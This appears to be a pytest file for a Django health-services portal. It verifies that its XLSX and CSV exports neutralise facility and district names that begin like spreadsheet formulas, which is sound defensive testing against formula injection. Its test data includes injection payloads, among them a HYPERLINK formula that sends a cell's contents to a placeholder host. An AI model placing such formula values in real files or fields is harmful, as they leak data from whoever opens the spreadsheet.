"""Every spreadsheet the portal writes keeps text as text: a name that begins like a formula is never one.

Each file is made through its real view from kecamatan and faskes named like formulas, saved as they could be
before the imports refused such names.
"""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from alokon.models import Facility
from portal.exports import safe_cell
from portal.models import Kecamatan
# The apps' fixtures, imported: their conftests serve only their own folders.
from tests.alokon.conftest import alokon_service, last_month, storekeeper  # noqa: F401
from tests.cases.conftest import case_service, officers, p2tp2a  # noqa: F401

pytestmark = pytest.mark.django_db

FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "==1+1",
    '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")',
]


@pytest.fixture
def formula_names(government, agency):
    """A kecamatan of the regency and a faskes of the agency named by each of FORMULAS."""
    for number, text in enumerate(FORMULAS, start=1):
        kecamatan = Kecamatan.objects.create(regency=government, name=text)
        Facility.objects.create(
            unit=agency, registration_number=f"3207{number:04d}", name=text, kind=Facility.Kind.CLINIC,
            kecamatan=kecamatan,
        )


def xlsx_cells(content):
    return [cell for row in load_workbook(io.BytesIO(content)).active.iter_rows() for cell in row]


def assert_text_cells(cells):
    """Each of FORMULAS is in `cells`, and every cell holding one is a string cell marked as typed text."""
    for text in FORMULAS:
        written = [cell for cell in cells if cell.value == text.replace("\r", "\n")]  # XML keeps a CR as a LF
        assert written, repr(text)
        assert all((cell.data_type, cell.quotePrefix) == ("s", True) for cell in written), repr(text)


def test_the_new_siga_xlsx_writes_faskes_and_kecamatan_names_as_text(
    client, alokon_service, storekeeper, formula_names  # noqa: F811
):
    client.force_login(storekeeper)

    response = client.get(reverse("alokon:siga_xlsx"), {"bulan": f"{last_month():%Y-%m}"})

    assert response.status_code == 200
    cells = xlsx_cells(response.content)
    assert_text_cells(cells)
    numbers = [cell for cell in cells if cell.column == 1 and cell.row > 4]
    assert [(cell.value, cell.data_type) for cell in numbers] == [(n, "n") for n in range(1, len(FORMULAS) + 1)]


def test_the_recap_xlsx_writes_kecamatan_names_as_text(client, officers, case_service, formula_names):  # noqa: F811
    client.force_login(officers["data"])

    response = client.get(reverse("cases:recap_xlsx"), {"bulan": "2025-03"})

    assert response.status_code == 200
    cells = xlsx_cells(response.content)
    assert_text_cells(cells)
    counts = [cells[cells.index(cell) + 1] for cell in cells if cell.value == FORMULAS[0]]
    assert [(cell.value, cell.data_type) for cell in counts] == [(0, "n")]  # a count stays a number


def test_the_faskes_xlsx_export_writes_names_as_text(portal_admin_client, formula_names):
    response = portal_admin_client.post(reverse("admin:alokon_facility_export"), {"resource": "0", "format": "1"})

    assert response.status_code == 200
    assert_text_cells(xlsx_cells(response.content))


def test_the_faskes_csv_export_puts_a_quote_before_text_that_would_start_a_formula(portal_admin_client, formula_names):
    response = portal_admin_client.post(reverse("admin:alokon_facility_export"), {"resource": "0", "format": "0"})

    assert response.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]
    for text in FORMULAS:
        assert cells.count("'" + text) == 2, repr(text)  # the faskes' name and its kecamatan's
        assert text not in cells


def test_numbers_stay_numbers_and_other_text_as_it_is():
    assert [safe_cell(value) for value in (-5, 0, 2.5, None, "Puskesmas", "<5", " =1")] == [
        -5, 0, 2.5, None, "Puskesmas", "<5", " =1"
    ]
